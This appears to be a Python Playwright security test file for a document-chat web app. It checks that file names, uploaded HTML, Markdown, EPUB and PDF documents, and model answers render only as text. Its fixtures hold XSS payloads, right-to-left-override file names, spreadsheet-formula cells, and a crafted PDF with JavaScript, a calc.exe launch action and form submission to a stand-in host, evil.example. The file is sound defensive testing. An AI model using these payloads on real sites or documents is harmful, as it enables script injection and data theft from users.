"""Documents, names, answers and users that mean harm: on every view they are text, and nothing else.

Whatever runs sets `harmed`, or changes the title; whatever is fetched from elsewhere, breaks the content policy or
says so in the console fails the test by its fixture.
"""

import io
import re
from collections.abc import Callable, Generator
from urllib.parse import urlsplit

import jwt
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from playwright.sync_api import Page, expect

from tests import files
from tests.api_client import Client
from tests.conftest import QUICK
from tests.fetching.articles import article
from tests.fetching.sites import OPEN_NETWORKS, serving_site
from tests.flowing import formats
from tests.scripted_model import ScriptedModel, scripted_model
from tests.service import Service, serving
from tests.web.asking import Asking
from tests.web.browser import Watched
from tests.web.reading import dialogs_of
from tests.web.viewer_host import Host, hosted

__all__ = ["scripted_model"]

HARM = "document.title='stolen';harmed=1"
MARKUP = f'<img src=x onerror="{HARM}"><script>{HARM}</script><a href="javascript:{HARM}">x</a>'
FERRY = "The ferry to Larkfield leaves at seven in the morning."
QUESTION = "When does the ferry to Larkfield leave?"

NAMES = [
    f'<img src=x onerror="{HARM}">.md',
    "\u202egnp.\u2066invoice\u2069.md",
    "ʬ" * 120 + ".md",
    "....md",
    "one\ntwo\r\n{{three}}${four}.md",
    "'\"><svg onload=harmed=1>&amp;%00.md",
]

ANSWER = (
    f"The ferry leaves at seven [1].\n\n{MARKUP} [now](javascript:{HARM}) ![p](https://evil.example/p.png) "
    '[<span data-index="9">10</span>] [<span data-index="0" onclick="harmed=1">7</span>] [99] [-1] '
    "<https://evil.example/> [^1]: note <style>*{display:none}</style>\n\n"
    f"| {MARKUP} | b |\n|---|---|\n| =cmd() | [x](data:text/html,<script>harmed=1</script>) |\n\n"
    f"```html\n{MARKUP}\n```\n\n# {MARKUP}\n"
)

PAGE = f"""<!doctype html><html lang="en" onclick="{HARM}"><head><meta charset="utf-8"><title>{MARKUP}</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/" target="_top">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";
* {{ position: fixed; background: url(https://evil.example/z.png) }}</style></head><body onload="{HARM}">
<h1 onclick="{HARM}">Notice &lt;img src=x onerror=harmed=1&gt;</h1><script>{HARM}</script>
<p style="position:fixed;inset:0" class="dialog">{FERRY} <img src="https://evil.example/a.png" onerror="{HARM}">
<a href="javascript:{HARM}">one</a> <a href="//evil.example/" ping="https://evil.example/">two</a></p>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.{HARM}</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form action="https://evil.example/" id="app"><input name="key" autofocus><button>Sign in</button></form>
<svg onload="{HARM}"><script>{HARM}</script><use href="https://evil.example/s.svg#a"/></svg>
<math><mtext><img src="x" onerror="{HARM}"></mtext></math>
<table><tr><th>&lt;b onclick=harmed=1&gt;Fee</th><th>2024</th></tr><tr><td>=1+1</td><td>412</td></tr></table>
</body></html>"""


def hostile_pdf() -> bytes:
    """A PDF that runs scripts, launches programs, submits forms and opens addresses, as far as a reader lets it."""
    pdf = pikepdf.open(io.BytesIO(files.note(f'{FERRY} #raw("{MARKUP.replace(chr(34), chr(39))}")')))
    script = Dictionary(
        S=Name.JavaScript, JS=String(f"app.alert('1'); this.submitForm('https://evil.example/'); {HARM}")
    )
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    address = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    coded = Dictionary(S=Name.URI, URI=String(f"javascript:{HARM}"))
    form = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"), Flags=4)
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = Dictionary(WC=script, WP=script)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), pdf.make_indirect(script)])))
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=script, C=script)
    links = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 400 + 40 * at, 300, 430 + 40 * at], A=action)
        for at, action in enumerate((script, launch, address, coded, form))
    ]
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(MARKUP), V=String(MARKUP), F=4,
        Rect=[72, 300, 300, 330], AA=Dictionary(K=script, F=script, V=script, C=script),
    )  # fmt: skip
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[320, 300, 340, 320], T=String(MARKUP),
                      Contents=String(MARKUP), RC=String(f"<body>{MARKUP}</body>"))  # fmt: skip
    page.obj.Annots = Array([pdf.make_indirect(one) for one in (*links, field, note)])
    pdf.Root.AcroForm = Dictionary(Fields=Array([page.obj.Annots[len(links)]]), CO=Array([page.obj.Annots[len(links)]]))
    outlined = pikepdf.OutlineItem(MARKUP)
    outlined.action = pdf.make_indirect(script)
    with pdf.open_outline() as outline:
        outline.root.append(outlined)
    pdf.docinfo["/Title"] = MARKUP
    held = io.BytesIO()
    pdf.save(held)
    return held.getvalue()


@pytest.fixture(scope="module")
def service(model: ScriptedModel, tmp_path_factory: pytest.TempPathFactory) -> Generator[Service]:
    model.script = [ANSWER[at : at + 40] for at in range(0, len(ANSWER), 40)]
    settings = QUICK | model.settings | {"CHATDOC_WEBSITE__OPEN_NETWORKS": OPEN_NETWORKS}
    with serving(tmp_path_factory.mktemp("hostile") / "data", settings=settings) as service:
        yield service


@pytest.fixture(scope="module")
def user(service: Service) -> Generator[Client]:
    """A user whose own name means harm."""
    name = MARKUP[:80]
    secret = service.new_user(name, elite_page=100, question=50, documents_tokens=100_000)
    with service.client(secret) as client:
        yield client


@pytest.fixture
def open_view(watched: Callable[..., Watched], user: Client) -> Generator[Callable[[str], Page]]:
    """Opens views of the app as that user; at the end none of them has been changed."""
    secret = user.http.headers["Authorization"].removeprefix("Bearer ")
    seen: list[tuple[Page, list[str]]] = []

    def open_view(address: str) -> Page:
        page: Page = watched(key=secret, permissions=["clipboard-read", "clipboard-write"]).page
        seen.append((page, dialogs_of(page)))
        page.goto(f"/#/{address}")
        return page

    yield open_view
    for page, dialogs in seen:
        assert dialogs == []
        assert_unharmed(page)


def assert_unharmed(page: Page) -> None:
    """Nothing ran, and nothing on the page or in a frame that it writes came from a document as markup."""
    found = page.evaluate(
        """() => {
            const frames = [...document.querySelectorAll("iframe.flowing-frame")].map((one) => one.contentDocument);
            const bad = [document, ...frames].flatMap((one) => [...one.querySelectorAll("*")].filter((element) => {
                const names = element.getAttributeNames();
                const address = element.getAttribute("href") ?? element.getAttribute("src") ?? "";
                return names.some((name) => name.startsWith("on"))
                    || /^\\s*(javascript|data):/i.test(address)
                    || element.matches("base, object, embed, meta[http-equiv=refresh i], script:not([src]), svg script")
                    || (element.matches("img, script, iframe, link") && /evil/.test(address));
            })).map((element) => element.outerHTML.slice(0, 200));
            return [window.harmed ?? null, frames.map((one) => one.defaultView.harmed ?? null), bad];
        }"""
    )
    assert (found[0], [one for one in found[1] if one], found[2]) == (None, [], [])
    assert page.title().endswith("ChatDOC")
    assert "evil" not in page.url


@pytest.fixture(scope="module")
def named(user: Client) -> dict[str, str]:
    """Documents with hostile names, by their ids, each under the name that the service keeps."""
    for name in NAMES:
        user.ready(f"# Notice\n\n{FERRY}\n".encode(), name)
    items = user.data("GET", "/documents", limit=50)["items"]
    return {one["id"]: one["name"] for one in items if one["type"] != "collection"}


@pytest.fixture(scope="module")
def paged(user: Client) -> str:
    return user.ready(hostile_pdf(), f"<img src=x onerror={HARM}>.pdf")


def test_names_are_text_in_library_collection_and_account(
    open_view: Callable[[str], Page], user: Client, named: dict[str, str]
) -> None:
    collection = user.data("POST", "/collections", json={"name": MARKUP[:80]})["id"]
    page = open_view("")
    rows = page.get_by_role("main").get_by_role("listitem")
    expect(rows.nth(len(NAMES) - 1)).to_be_visible()
    assert "\u202e" not in page.get_by_role("main").inner_text()
    overflow = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert page.evaluate(overflow) == 0
    page.goto(f"/#/collections/{collection}")
    expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x onerror=")
    page.goto("/#/account")
    expect(page.get_by_text("Signed in as")).to_contain_text("<img src=x")
    assert "\u202e" not in page.get_by_role("main").inner_text()
    page.goto("/#/developers")
    expect(page.get_by_role("heading", name="Developers", level=1)).to_be_visible()


def test_names_are_text_beside_documents(open_view: Callable[[str], Page], named: dict[str, str]) -> None:
    page = open_view(f"documents/{','.join(named)}")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.get_by_role("button", name=re.compile("^Documents: ")).click()
    items = page.get_by_role("menuitemradio")
    expect(items).to_have_count(len(named))
    assert not any("\u202e" in text or "\n" in text.strip() for text in items.all_inner_texts())
    items.last.click()
    overflow = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert page.evaluate(overflow) == 0


@pytest.mark.parametrize("ending", ["html", "md", "epub"])
def test_flowing_documents_are_text(open_view: Callable[[str], Page], user: Client, ending: str) -> None:
    body = PAGE.split("</head>")[1]
    content = {
        "html": PAGE.encode(),
        "md": f"# {MARKUP}\n\n{FERRY}\n\n{body}\n\n[a](javascript:harmed=1) ![b](https://evil.example/b.png)\n".encode(),
        "epub": formats.epub((formats.xhtml(f"<h1>Notice</h1><p>{FERRY}</p><script>{HARM}</script>"
                                            f"<img src='https://evil.example/p.png' onerror=\"{HARM}\"/>"),)),
    }[ending]  # fmt: skip
    page = open_view(f"documents/{user.ready(content, f'notice.{ending}')}")
    shown = page.frame_locator("iframe.flowing-frame")
    expect(shown.get_by_text("The ferry to Larkfield").first).to_be_visible()
    page.get_by_role("button", name="Parsed structure").click()
    expect(page.get_by_role("list", name="Elements in reading order").get_by_role("listitem").first).to_be_visible()
    asking = Asking(page)
    asking.answered(QUESTION)
    asking.source().hover()
    expect(asking.preview).to_contain_text("Larkfield")


def test_a_pdf_that_acts_is_only_shown(open_view: Callable[[str], Page], paged: str) -> None:
    page = open_view(f"documents/{paged}")
    expect(page.locator(".textLayer span", has_text="The ferry to Larkfield").first).to_be_visible()
    for link in page.locator(".annotationLayer a").all():
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:", "file:"))
    box = page.locator(".page").first.bounding_box()
    assert box
    # Where the script, the program and the form would start.
    for down in (842 - 415, 842 - 455, 842 - 535, 842 - 575, 842 - 315):
        page.mouse.click(box["x"] + box["width"] * 150 / 595, box["y"] + box["height"] * down / 842)
    expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x")
    page.get_by_role("button", name="Parsed structure").click()
    expect(page.get_by_role("list", name="Elements in reading order").get_by_role("listitem").first).to_be_visible()
    page.get_by_role("button", name="Outline", exact=True).click()
    assert len(page.context.pages) == 1


def test_answers_are_text(open_view: Callable[[str], Page], paged: str) -> None:
    page = open_view(f"documents/{paged}")
    asking = Asking(page)
    answer = asking.answered(f"{QUESTION} {MARKUP}")
    expect(answer).to_contain_text("‹style>*{display:none}‹/style")
    assert answer.locator("img, style, script").count() == 0
    # An address that no document holds is taken out, and what would be a link is text.
    assert answer.locator("a").count() == 0
    assert "evil.example" not in answer.inner_text()
    expect(asking.source(1).first).to_have_accessible_name(re.compile(r"^Source 1: <img src=x onerror="))
    # Places that no source has lead nowhere.
    assert not re.search(r"Source (0|7|9|10|99):", " ".join(answer.get_by_role("button").evaluate_all(
        "buttons => buttons.map((one) => one.getAttribute('aria-label') ?? '')")))  # fmt: skip
    asking.source(1).first.hover()
    expect(asking.preview.locator("canvas")).to_be_visible()
    answer.get_by_role("button", name="Copy with sources").click()
    expect(answer.get_by_role("status").last).to_have_text("Copied")
    answer.get_by_role("button", name="Copy and save").click()
    with page.expect_download() as saved:
        page.get_by_role("menuitem", name="Save as Markdown").click()
    assert re.fullmatch(r"[^<>:\"/\\|?*\x00-\x1f]+\.md", saved.value.suggested_filename)
    page.reload()
    expect(asking.latest).to_contain_text("display:none")


def test_a_website_is_text(open_view: Callable[[str], Page], user: Client) -> None:
    with serving_site() as site:
        address = site.page("/hostile", article(title=f"&lt;img src=x onerror={HARM}&gt;", extra=MARKUP))
        upload_id = user.data("POST", "/documents/website", json={"website": address})["id"]
        user.finished(upload_id)
    page = open_view(f"documents/{upload_id}")
    expect(page.frame_locator("iframe.flowing-frame").locator("[data-index]").first).to_be_visible()
    expect(page.get_by_role("heading", level=1)).to_be_visible()


def test_the_framed_viewer_only_shows(
    watched: Callable[..., Watched], service: Service, paged: str, user: Client
) -> None:
    secret = user.http.headers["Authorization"].removeprefix("Bearer ")
    with hosted() as origin:
        page = watched(hosts=(urlsplit(origin).netloc,)).page
        dialogs = dialogs_of(page)
        page.goto(origin)
        host = Host(page, f"{service.url}/pdf-viewer/")
        token = jwt.encode({"upload_id": paged}, secret, algorithm="HS256")
        host.start(f"{service.api}/documents/{paged}/download", [token])
        expect(host.viewer.locator(".textLayer span", has_text="The ferry to Larkfield").first).to_be_visible()
        assert dialogs == []
        assert host.frame.evaluate("window.harmed ?? null") is None
        assert page.title() == "A page with a viewer"
